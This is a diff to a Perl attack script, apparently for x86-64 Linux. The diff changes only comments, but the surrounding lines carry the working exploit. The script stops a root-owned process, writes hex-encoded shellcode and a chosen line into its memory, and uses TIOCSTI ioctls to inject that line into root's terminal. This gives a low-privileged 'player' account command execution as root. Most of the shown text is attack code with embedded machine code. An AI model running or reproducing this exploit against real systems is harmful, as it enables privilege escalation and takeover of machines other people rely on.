@@ -1,5 +1,5 @@
-# Code that runs as the player's account against root's command: it writes a program into the memory of the command, which
-# pushes a line into the shell of the terminal that the command has. For x86-64.
+# An attack by the player's account on root's command: writes a program into the memory of the command, which then pushes a
+# line into the shell of its terminal. For x86-64.
 use strict;
 use warnings;
 no warnings 'portable';
@@ -18,7 +18,7 @@ my ($next) = (readline $call) =~ /(0x[0-9a-f]+)$/ or die "it does not wait\n";
 # For each letter: ioctl(0, TIOCSTI, letter). In the end: exit_group(0).
 my $program = pack 'H*', '488d1d24000000' . '803b00' . '7416' . 'b810000000' . '31ff' . 'be12540000' . '4889da' . '0f05'
     . '48ffc3' . 'ebe5' . 'b8e7000000' . '31ff' . '0f05';
-# Its system call is interrupted, and goes on here.
+# The interrupted system call resumes here.
 kill 'STOP', $pid;
 sysseek $memory, hex $next, 0;
 syswrite $memory, "$program$line\n\0" or die "memory: $!\n";
